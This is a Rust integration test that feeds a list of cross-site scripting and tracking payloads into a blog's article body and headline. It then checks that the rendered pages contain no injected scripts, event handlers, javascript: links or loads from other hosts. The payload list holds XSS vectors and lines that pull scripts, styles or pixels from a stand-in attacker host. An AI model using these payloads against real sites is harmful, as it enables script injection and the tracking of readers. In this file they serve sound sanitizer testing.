//! Hostile article bodies: whatever an author or an imported file writes, no script
//! reaches a reader and nothing loads from another host.

use crate::common::{TestApp, select};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<svg onload=alert(1)><circle r=10></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<body onload=alert(1)>",
    "<div style=\"background:url(https://evil.example/track.gif)\">styled</div>",
    "<style>body{background:url(https://evil.example/t.gif)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<form action=\"https://evil.example\"><input name=q></form>",
    "<base href=\"https://evil.example/\">",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "![tracker](https://tracker.example/pixel.gif)",
    "<img src=\"//tracker.example/pixel.gif\">",
    "</p></div></main><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
];

#[tokio::test]
async fn hostile_markdown_cannot_inject_script_or_trackers() {
    let app = TestApp::empty().await;
    let body = PAYLOADS
        .iter()
        .map(|p| format!("{p}\n\nA normal paragraph.\n"))
        .collect::<String>();
    let headline = "<script>alert('headline')</script> Plain headline";
    let slug = app.publish(headline, &body).await;
    app.state.refresh(&mut app.state.theme.fingerprint()).await;

    for path in [format!("/articles/{slug}"), "/".into(), "/archive".into()] {
        let text = app.text(&path).await;
        let html = scraper::Html::parse_document(&text);
        let scripts = select(&html, "script");
        for script in &scripts {
            let value = script.value();
            let allowed = value
                .attr("src")
                .is_some_and(|s| s.ends_with("assets/site.js") && !s.contains("://"))
                || value.attr("type") == Some("application/ld+json");
            assert!(allowed, "{path}: unexpected script {}", script.html());
        }
        for element in select(&html, "*") {
            for (name, value) in element.value().attrs() {
                assert!(
                    !name.starts_with("on"),
                    "{path}: event handler {name}={value}"
                );
                let lower = value.to_ascii_lowercase();
                assert!(
                    !lower.contains("javascript:") && !lower.starts_with("data:text"),
                    "{path}: {name}={value}"
                );
                assert!(
                    !lower.contains("evil.example") && !lower.contains("tracker.example"),
                    "{path}: {name}={value}"
                );
            }
            let tag = element.value().name();
            assert!(
                ![
                    "iframe", "object", "embed", "svg", "math", "style", "form", "base", "meta",
                    "template"
                ]
                .contains(&tag)
                    || element
                        .ancestors()
                        .any(|a| a.value().as_element().is_some_and(|e| e.name() == "head"))
                    // The theme's own newsletter sign-up in the footer.
                    || (tag == "form"
                        && element.value().attr("class") == Some("footer-signup")
                        && element
                            .ancestors()
                            .any(|a| a.value().as_element().is_some_and(|e| e.name() == "footer"))),
                "{path}: <{tag}> in the body"
            );
        }
        assert!(!text.contains("<script>alert"), "{path}");
    }
    let article = app.html(&format!("/articles/{slug}")).await;
    let survivors = crate::common::text_of(&article, ".body")
        .matches("A normal paragraph.")
        .count();
    assert_eq!(survivors, PAYLOADS.len(), "the harmless text survives");
    assert_eq!(
        crate::common::text_of(&article, "h1"),
        "<script>alert('headline')</script> Plain headline",
        "escaped, not executed"
    );
}
